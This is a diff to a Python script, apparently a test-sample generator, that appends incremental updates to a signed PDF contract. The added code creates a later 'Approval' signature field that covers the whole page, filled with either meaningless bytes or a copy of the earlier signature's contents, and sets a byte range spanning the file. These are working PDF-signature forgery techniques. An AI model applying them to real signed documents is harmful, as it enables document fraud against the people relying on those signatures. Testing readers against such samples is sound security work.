@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
 """A one-page contract and incremental updates appended to a signed copy of it:
 updates that readers resolve otherwise than the signed revision or that change
-what they show, and one that only gives the document information new text.
+what they show, and one that only gives the document information new text; and later
+signature fields whose contents verify over nothing.
 
   reader_attacks.py contract FORM OUT            writes the unsigned contract
   reader_attacks.py update NAME SECTION IN OUT [NAME SECTION IN OUT ...]
@@ -201,6 +202,31 @@ COVERING_STAMP = stream(b"/Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] /R
                         COVER)
 
 
+UNSET_RANGE = b"/ByteRange [ 0 0000000000 0000000000 0000000000 ]"
+
+
+def later_signature(u, path, digits):
+    """A signature field listed last in /Fields, its widget painting over the page, whose value holds digits
+    as /Contents and a /ByteRange that spanning() sets to span the whole file."""
+    field, value, look = u.new(), u.new(), u.new()
+    u.add(look, COVERING_STAMP)
+    u.add(value, b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /M (D:20250301090000Z) "
+                 b"%s /Contents <%s> >>" % (UNSET_RANGE, digits))
+    u.add(field, b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /F 4 /Rect [ 0 0 595 842 ] /P 3 0 R "
+                 b"/V %d 0 R /AP << /N %d 0 R >> >>" % (value, look))
+    u.add(1, gaining(b"/Fields", show(path, 1), field))
+    u.add(PAGE, gaining(b"/Annots", show(path, PAGE), field))
+
+
+def spanning(data):
+    """data with the unset /ByteRange framing the /Contents after it and reaching the end of the file."""
+    at = data.rindex(UNSET_RANGE)
+    a = data.index(b"<", at + len(UNSET_RANGE))
+    b = data.index(b">", a) + 1
+    numbers = b"/ByteRange [ 0 %010d %010d %010d ]" % (a, b, len(data) - b)
+    return data[:at] + numbers + data[at + len(UNSET_RANGE):]
+
+
 def update(name, section, path, out):
     with open(path, "rb") as f:
         u = Update(f.read())
@@ -241,6 +267,12 @@ def update(name, section, path, out):
                      b"/P 3 0 R /AP << /N %d 0 R >> >>" % look)
         u.add(1, gaining(b"/Fields", show(path, 1), field))
         u.add(PAGE, gaining(b"/Annots", show(path, PAGE), field))
+    elif name == "unverified-signature":
+        # 64 bytes that are no signature at all.
+        later_signature(u, path, b"%0128x" % 0x5041590a31303030303030)
+    elif name == "copied-signature":
+        # The earlier signature's own contents, which verify over other bytes.
+        later_signature(u, path, re.findall(rb"/Contents\s*<([0-9A-Fa-f]+)>", u.bytes)[0])
     elif name == "deep-shadow":
         u.add(STAMP_INNER, COVERING_STAMP)
     elif name == "hidden-by-later-oc":
@@ -248,8 +280,9 @@ def update(name, section, path, out):
     else:
         raise SystemExit("unknown update " + name)
     widths = (1, 5, 1) if name == "row-past-end" else (1, 4, 1)
+    data = u.finish(section, widths)
     with open(out, "wb") as f:
-        f.write(u.finish(section, widths))
+        f.write(spanning(data) if UNSET_RANGE in data else data)
 
 
 def main(argv):
